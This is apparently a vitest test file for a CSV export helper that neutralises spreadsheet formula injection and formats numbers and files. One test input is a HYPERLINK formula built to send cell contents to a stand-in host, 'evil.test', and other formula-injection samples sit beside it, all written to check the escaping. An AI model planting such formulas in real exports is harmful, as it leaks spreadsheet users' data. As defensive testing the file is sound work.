import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvNumber, csvText } from '../../src/domain/csv-cells.js';

describe('the one CSV cell rule (every CSV the product writes)', () => {
  it('guards text that a spreadsheet would run: at its start, and after a `;` or `,`', () => {
    expect(csvCell('=HYPERLINK("http://evil.test/?"&A1,"click")')).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"click")`);
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('+1+2;=3')).toBe("'+1+2;'=3");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('\tTabbed')).toBe("'\tTabbed");
    expect(csvCell('\rcarriage')).toBe("'\rcarriage");
    expect(csvCell('a, @b')).toBe("a, '@b");
    expect(csvCell('Kitchen')).toBe('Kitchen');
  });

  it('writes numbers as numbers, unguarded, with the digits asked for; nothing is an empty cell', () => {
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(csvNumber(-13, 1))).toBe('-13.0');
    expect(csvCell(csvNumber(13.04, 1))).toBe('13.0');
    expect(csvCell(7)).toBe('7');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    // Only plain digits count as a number: anything else is text, under the text rule.
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCell(-1e21)).toBe("'-1e+21");
  });

  it('a file: BOM, CRLF, every non-empty cell quoted, read back as written', () => {
    const text = csvText([
      ['name', 'area'],
      ['+1+2;=3', csvNumber(4.5, 1)],
      ['Hall', null],
    ]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('"name","area"\r\n');
    expect(parse(text, { bom: true })).toEqual([
      ['name', 'area'],
      ["'+1+2;'=3", '4.5'],
      ['Hall', ''],
    ]);
  });
});
